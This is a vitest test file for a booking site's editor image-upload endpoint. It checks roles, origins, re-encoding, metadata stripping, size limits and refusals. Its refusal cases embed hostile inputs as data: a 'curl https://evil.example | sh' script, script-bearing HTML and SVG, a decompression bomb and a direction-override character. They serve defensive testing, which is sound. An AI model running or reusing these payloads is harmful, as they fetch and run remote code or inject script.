import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DESK_PREFIX, deskRoutes } from '../../src/lib/api/deskRoutes.ts';
import { IMAGE_MAX_BYTES, IMAGE_TOO_LARGE } from '../../src/lib/api/deskImages.ts';
import { NOT_SIGNED_IN } from '../../server/desk/access.ts';
import { NOT_A_FILE_BODY, UPLOADS_OFF } from '../../server/desk/imageRoutes.ts';
import { WRONG_ORIGIN } from '../../server/desk/originCheck.ts';
import {
  ANIMATED_IMAGE,
  DAMAGED_IMAGE,
  EMPTY_IMAGE,
  formatNotAccepted,
  HEIC_IMAGE,
  NOT_AN_IMAGE,
  tooManyPixels,
} from '../../server/media/imageRefusals.ts';
import { testClock } from './bookingFixtures.ts';
import {
  addTestStaff,
  auditOf,
  deskApp,
  deskCall,
  sessionCookie,
  SITE,
  type App,
  type DeskAnswer,
  type TestStaff,
} from './deskFixtures.ts';
import { openHarness, type Harness } from './harness.ts';

/**
 * Images uploaded at the editors' desk: who may upload, what is accepted and how it is stored
 * (re-encoded, upright, at most 2400 px wide, without its metadata, served under /media/uploads/),
 * and that a refusal of any kind stores nothing: no row, no file.
 */

const clock = testClock(new Date('2026-11-22T05:00:00Z'));
let h: Harness;
let desk: App;
let mediaDir: string;
type Who = 'editor' | 'editor2' | 'owner' | 'manager' | 'frontDesk';
const staff = {} as Record<Who, TestStaff & { cookie: string }>;

beforeAll(async () => {
  h = await openHarness({ now: clock.now });
  mediaDir = await mkdtemp(join(tmpdir(), 'desk-images-'));
  desk = deskApp(h.db, { now: clock.now, mediaDir });
  const roles = { editor: 'editor', editor2: 'editor', owner: 'owner', manager: 'manager', frontDesk: 'front-desk' } as const;
  for (const [who, role] of Object.entries(roles)) {
    const s = await addTestStaff(h.db, role, { name: `Test ${who}` });
    staff[who as Who] = { ...s, cookie: await sessionCookie(h.db, s.id, clock.now()) };
  }
});
afterAll(async () => {
  await h?.close();
  if (mediaDir) await rm(mediaDir, { recursive: true, force: true });
});

interface UploadOptions {
  /** The alt text sent; null: none. */
  alt?: string | null;
  /** The Content-Type sent; null: none. */
  type?: string | null;
  /** The Origin header; null: none. */
  origin?: string | null;
  /** Sent as a stream without a declared length, as a chunked upload is. */
  streamed?: boolean;
  app?: App;
}

const ALT = 'The Aurora theatre decorated for a birthday';

/** POSTs a file to the upload as the desk's page does: the bytes as the body, the alt text in the query. */
async function upload(who: Who | null, bytes: Uint8Array, o: UploadOptions = {}): Promise<DeskAnswer> {
  const alt = o.alt === undefined ? ALT : o.alt;
  const query = alt === null ? '' : `?${new URLSearchParams({ alt })}`;
  const headers: Record<string, string> = {};
  if (who) headers.cookie = staff[who].cookie;
  if (o.origin !== null) headers.origin = o.origin ?? SITE;
  if (o.type !== null) headers['content-type'] = o.type ?? 'image/jpeg';
  let body: BodyInit;
  if (o.streamed) {
    const chunk = 1024 * 1024;
    body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let at = 0; at < bytes.length; at += chunk) controller.enqueue(bytes.subarray(at, at + chunk));
        controller.close();
      },
    });
  } else {
    headers['content-length'] = String(bytes.byteLength);
    body = new Blob([bytes as Uint8Array<ArrayBuffer>]);
  }
  const init = { method: 'POST', headers, body, duplex: 'half' } as RequestInit;
  const res = await (o.app ?? desk).request(`${DESK_PREFIX}${deskRoutes.imageUpload.path}${query}`, init);
  const text = await res.text();
  let parsed: unknown = text;
  try {
    parsed = JSON.parse(text);
  } catch {
    // left as text: the test says what came back
  }
  return { status: res.status, body: parsed, headers: res.headers, cookies: [] };
}

/** What an upload leaves behind: the rows, the audit entries and the files. */
async function stored() {
  const [{ count }] = await h.db.query<{ count: number }>('select count(*)::int as count from images');
  const audit = (await auditOf(h.db, `action = 'content.image.upload'`)).length;
  const files = (await readdir(join(mediaDir, 'uploads')).catch(() => [] as string[])).sort();
  return { rows: Number(count), audit, files };
}

async function expectRefused(res: DeskAnswer, status: number, message: string | RegExp, before: Awaited<ReturnType<typeof stored>>) {
  expect(res.status, JSON.stringify(res.body)).toBe(status);
  expect(res.body.success).toBe(false);
  if (typeof message === 'string') expect(res.body.message).toBe(message);
  else expect(res.body.message).toMatch(message);
  expect(await stored()).toEqual(before);
}

/** A photo as a phone takes it: sideways with an orientation tag, EXIF with the camera and where it was taken. */
const phonePhoto = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#b0413e' } })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'TestCam', Model: 'Pocket 9' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '12/1 58/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '77/1 35/1 0/1' },
    })
    .jpeg()
    .toBuffer();

/** An opaque PNG, or with `alpha` one with an alpha channel (transparent where alpha < 1). */
const png = (width: number, height: number, alpha?: number) =>
  sharp({
    create:
      alpha === undefined
        ? { width, height, channels: 3, background: '#285ac8' }
        : { width, height, channels: 4, background: { r: 40, g: 90, b: 200, alpha } },
  })
    .png()
    .toBuffer();

/** The stored file of an upload, read back from the media folder. */
const storedFile = (path: string) => readFile(join(mediaDir, path.replace(/^\/media\//, '')));

const listAs = async (who: Who, input: Record<string, string> = {}) => deskCall(desk, 'imageList', input, { cookie: staff[who].cookie });

describe('who may upload', () => {
  it('editors and the owner; a manager and the front desk get 403, no session 401, another site 403: those store nothing', async () => {
    const photo = await png(40, 30);
    for (const who of ['editor', 'owner'] as const) {
      const res = await upload(who, photo, { type: 'image/png' });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.image.uploadedBy).toBe(`Test ${who}`);
    }
    const before = await stored();
    for (const who of ['manager', 'frontDesk'] as const) {
      await expectRefused(await upload(who, photo, { type: 'image/png' }), 403, /^Your role \(.+\) may not do this\.$/, before);
      expect((await listAs(who)).status).toBe(403);
    }
    await expectRefused(await upload(null, photo, { type: 'image/png' }), 401, NOT_SIGNED_IN, before);
    expect((await deskCall(desk, 'imageList')).status).toBe(401);
    for (const origin of [null, 'https://evil.example', 'null']) {
      await expectRefused(await upload('editor', photo, { type: 'image/png', origin }), 403, WRONG_ORIGIN, before);
    }
  });

  it('answers 503 on a server without a media folder, storing nothing', async () => {
    const before = await stored();
    const noMedia = deskApp(h.db, { now: clock.now });
    await expectRefused(await upload('editor', await png(10, 10), { type: 'image/png', app: noMedia }), 503, UPLOADS_OFF, before);
  });
});

describe('an accepted image', () => {
  it('a phone photo: upright, at most 2400 px wide, re-encoded as JPEG without its EXIF (no GPS), served at its path', async () => {
    const photo = await phonePhoto(4800, 3200);
    const exif = (await sharp(photo).metadata()).exif!;
    // The photo as sent does carry a camera name and a GPS position (the GPS IFD's pointer tag, little-endian).
    expect(exif.includes(Buffer.from('TestCam'))).toBe(true);
    expect(exif.includes(Buffer.from([0x25, 0x88]))).toBe(true);

    clock.advance(60_000);
    const res = await upload('editor', photo, { type: 'application/octet-stream' });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const image = res.body.image;
    expect(image).toMatchObject({ alt: ALT, width: 2400, height: 3600, format: 'jpeg', uploadedBy: 'Test editor' });
    expect(image.path).toMatch(/^\/media\/uploads\/img-[0-9a-f]{24}\.jpg$/);
    expect(res.body.message).toMatch(/^Image saved: 2400 × 3600 pixels, \d+ KB\.$/);

    const file = await storedFile(image.path);
    expect(file.byteLength).toBe(image.bytes);
    const meta = await sharp(file).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 2400, height: 3600 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(meta.icc).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.iptc).toBeUndefined();
    expect(file.includes(Buffer.from('TestCam'))).toBe(false);

    const served = await desk.request(image.path);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    expect(Buffer.from(await served.arrayBuffer()).equals(file)).toBe(true);

    const [row] = await h.db.query<Record<string, unknown>>('select * from images where id = $1', [image.id]);
    expect(row).toMatchObject({ path: image.path, alt: ALT, width: 2400, height: 3600, format: 'jpeg', uploaded_by_id: staff.editor.id });
    const [entry] = await auditOf(h.db, `target = $1`, [`image:${image.id}`]);
    expect(entry).toMatchObject({ staff_id: staff.editor.id, staff_name: 'Test editor', action: 'content.image.upload', before: null });
    expect(entry.after).toMatchObject({
      path: image.path,
      alt: ALT,
      width: 2400,
      height: 3600,
      sent: { format: 'jpeg', width: 4800, height: 3200, bytes: photo.byteLength },
    });
  });

  it('a PNG with transparency is stored as WebP and keeps it; an opaque PNG and a WebP as JPEG, never enlarged', async () => {
    const cases = [
      { bytes: await png(300, 200, 0.5), type: 'image/png', format: 'webp', width: 300, height: 200, alpha: true },
      {
        bytes: await sharp({ create: { width: 3000, height: 1000, channels: 3, background: '#eee' } })
          .png()
          .toBuffer(),
        type: 'image/png',
        format: 'jpeg',
        width: 2400,
        height: 800,
        alpha: false,
      },
      {
        bytes: await sharp({ create: { width: 640, height: 480, channels: 3, background: '#123456' } })
          .webp()
          .toBuffer(),
        type: 'image/webp',
        format: 'jpeg',
        width: 640,
        height: 480,
        alpha: false,
      },
    ];
    for (const c of cases) {
      clock.advance(60_000);
      const res = await upload('editor', c.bytes, { type: c.type });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.image).toMatchObject({ format: c.format, width: c.width, height: c.height });
      expect(res.body.image.path.endsWith(c.format === 'jpeg' ? '.jpg' : '.webp')).toBe(true);
      const meta = await sharp(await storedFile(res.body.image.path)).metadata();
      expect(meta).toMatchObject({ format: c.format, width: c.width, height: c.height, hasAlpha: c.alpha });
      expect(meta.exif).toBeUndefined();
      expect((await desk.request(res.body.image.path)).status).toBe(200);
    }
  });

  it('is decided by its bytes: a PNG sent as image/jpeg, or without a type, is read as the PNG it is', async () => {
    for (const type of ['image/jpeg', null]) {
      const res = await upload('owner', await png(20, 20), { type });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.image.format).toBe('jpeg');
    }
  });

  it('is listed newest first with its alt text, size, who and when', async () => {
    clock.advance(60_000);
    const res = await upload('editor2', await png(50, 40), { type: 'image/png', alt: 'Balloons at the entrance' });
    expect(res.status).toBe(200);
    const list = await listAs('owner');
    expect(list.status, JSON.stringify(list.body)).toBe(200);
    const { images, total, page, pages } = list.body;
    expect(images[0]).toEqual({
      ...res.body.image,
      alt: 'Balloons at the entrance',
      uploadedBy: 'Test editor2',
      uploadedAt: clock.now().toISOString(),
    });
    expect(total).toBe((await stored()).rows);
    expect({ page, pages }).toEqual({ page: 1, pages: 1 });
    const times = images.map((i: { uploadedAt: string }) => i.uploadedAt);
    expect(times).toEqual([...times].sort().reverse());
    expect((await listAs('editor', { page: '0' })).status).toBe(400);
  });
});

describe('a refused upload stores nothing', () => {
  it('an empty body, a script renamed .jpg, an SVG, a truncated JPEG, a HEIC, a GIF, an animated WebP', async () => {
    const photo = await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#345' } })
      .jpeg()
      .toBuffer();
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)]);
    const frame = (colour: string) =>
      sharp({ create: { width: 20, height: 20, channels: 3, background: colour } })
        .png()
        .toBuffer();
    const animated = await sharp([await frame('#f00'), await frame('#0f0')], { join: { animated: true } })
      .webp()
      .toBuffer();
    const cases: [string, Uint8Array, string, number, string][] = [
      ['0 bytes', new Uint8Array(0), 'image/jpeg', 400, EMPTY_IMAGE.message],
      ['a script renamed .jpg', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'image/jpeg', 415, NOT_AN_IMAGE.message],
      ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>'), 'image/png', 415, NOT_AN_IMAGE.message],
      [
        'an SVG with a script',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
        'image/svg+xml',
        415,
        NOT_AN_IMAGE.message,
      ],
      ['a truncated JPEG', photo.subarray(0, Math.floor(photo.length / 2)), 'image/jpeg', 400, DAMAGED_IMAGE.message],
      ['a JPEG header alone', photo.subarray(0, 200), 'image/jpeg', 400, DAMAGED_IMAGE.message],
      ['a HEIC photo', heic, 'image/heic', 415, HEIC_IMAGE.message],
      [
        'a GIF',
        await sharp(await frame('#00f'))
          .gif()
          .toBuffer(),
        'image/gif',
        415,
        formatNotAccepted('gif').message,
      ],
      ['an animated WebP', animated, 'image/webp', 400, ANIMATED_IMAGE.message],
    ];
    for (const [what, bytes, type, status, message] of cases) {
      const before = await stored();
      const res = await upload('editor', bytes, { type });
      await expectRefused(res, status, message, before);
      // Said at the Image field of the desk's form.
      expect(res.body.errors, what).toEqual([{ field: 'image', message }]);
    }
  });

  it('a decompression bomb: a small PNG of 10000 × 10000 pixels is refused by its header (the pixel limit)', async () => {
    const bomb = await sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(bomb.byteLength).toBeLessThan(1024 * 1024);
    await expectRefused(await upload('editor', bomb, { type: 'image/png' }), 400, tooManyPixels(10_000, 10_000).message, await stored());
  });

  it('a 20 MB body: 413, whether its length is declared or it is streamed without one', async () => {
    const big = new Uint8Array(20 * 1024 * 1024);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    const before = await stored();
    for (const streamed of [false, true]) {
      const res = await upload('editor', big, { streamed });
      await expectRefused(res, 413, IMAGE_TOO_LARGE, before);
      expect(res.headers.get('connection')).toBe('close');
    }
    // A declared length over the limit is refused before the session is even looked at.
    await expectRefused(await upload(null, big), 413, IMAGE_TOO_LARGE, before);
    expect(IMAGE_MAX_BYTES).toBe(15 * 1024 * 1024);
  });

  it('a body sent as a form, as text or as JSON: 415', async () => {
    const photo = await png(10, 10);
    const before = await stored();
    for (const type of ['multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'text/plain', 'application/json']) {
      await expectRefused(await upload('editor', photo, { type }), 415, NOT_A_FILE_BODY, before);
    }
  });

  it('alt text missing, empty, blank, too long, or with NUL, a line break or a direction override: 400 naming alt', async () => {
    const photo = await png(10, 10);
    const before = await stored();
    const cases: [string | null, RegExp][] = [
      [null, /^alt is required/],
      ['', /^alt is required/],
      ['   ', /^alt is required: describe what the image shows/],
      ['x'.repeat(201), /^alt must be at most 200 characters$/],
      ['A cake\u0000', /^alt must not contain NUL characters/],
      ['A cake\non a table', /^alt must not contain control or invisible formatting characters/],
      ['A cake \u202Eelbat', /^alt must not contain control or invisible formatting characters/],
    ];
    for (const [alt, message] of cases) {
      const res = await upload('editor', photo, { type: 'image/png', alt });
      await expectRefused(res, 400, message, before);
      expect(res.body.errors[0].field).toBe('alt');
    }
    // 200 characters, in any script, are fine; so is a name's ZWJ.
    const long = 'द'.repeat(200);
    const res = await upload('editor', photo, { type: 'image/png', alt: long });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.image.alt).toBe(long);
  });
});

describe('two editors uploading at once', () => {
  it('both get their own image: two rows, two files, two audit entries', async () => {
    const before = await stored();
    const [a, b] = await Promise.all([
      upload('editor', await phonePhoto(1600, 1200), { alt: 'First editor’s photo' }),
      upload('editor2', await png(800, 600, 0.4), { type: 'image/png', alt: 'Second editor’s logo' }),
    ]);
    expect([a.status, b.status], JSON.stringify([a.body, b.body])).toEqual([200, 200]);
    expect(a.body.image.id).not.toBe(b.body.image.id);
    expect(a.body.image).toMatchObject({ alt: 'First editor’s photo', uploadedBy: 'Test editor', format: 'jpeg' });
    expect(b.body.image).toMatchObject({ alt: 'Second editor’s logo', uploadedBy: 'Test editor2', format: 'webp' });
    const after = await stored();
    expect(after.rows).toBe(before.rows + 2);
    expect(after.audit).toBe(before.audit + 2);
    expect(after.files).toEqual([...before.files, a.body.image.path.split('/').pop(), b.body.image.path.split('/').pop()].sort());
    for (const image of [a.body.image, b.body.image]) expect((await desk.request(image.path)).status).toBe(200);
  });
});
